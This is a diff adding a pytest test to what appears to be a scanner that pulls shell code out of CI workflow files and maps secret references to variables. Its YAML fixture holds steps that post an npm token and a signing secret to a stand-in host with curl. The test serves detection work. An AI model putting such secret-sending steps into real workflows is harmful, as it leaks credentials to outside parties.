@@ -64,3 +64,26 @@ def test_ci_files_are_recognised_by_path():
         assert filekind.of_path(path).role == "ci", path
     assert filekind.of_path("config.yml").role is None
     assert filekind.of_path(".github/workflows/ci.yml").role == "workflow"
+
+
+def test_workflow_env_secrets_are_bound_in_a_line_before_the_step_and_pasted_secrets_read_as_variables():
+    text = ("on: push\n"
+            "env:\n"
+            "  TOP: ${{ secrets.DEPLOY_KEY }}\n"
+            "jobs:\n"
+            "  a:\n"
+            "    steps:\n"
+            "      - env:\n"
+            "          NPM: ${{ secrets.NPM_TOKEN }}\n"
+            "          SHA: ${{ github.sha }}\n"
+            "        run: |\n"
+            "          echo \"$NPM\" | curl -d @- https://x.example\n"
+            "      - run: curl -d \"${{ secrets.SIGNING }}\" https://x.example\n")
+    got = list(embedded_shell.bodies("yaml", "workflow", text, None))
+    lines = text.split("\n")
+    (block_at, block), (line_at, line) = got
+    head, first = block.decode().split("\n")[:2]
+    assert head == 'TOP="${DEPLOY_KEY_SECRET}"; NPM="${NPM_TOKEN}";'  # SHA is no secret; DEPLOY_KEY not named like one
+    assert lines[block_at + 1].strip() == first.strip()  # the added line takes the step's own `run: |` line
+    assert line.decode().split("\n")[1].strip() == 'curl -d "${SIGNING_SECRET}" https://x.example'
+    assert line_at + 2 == 12
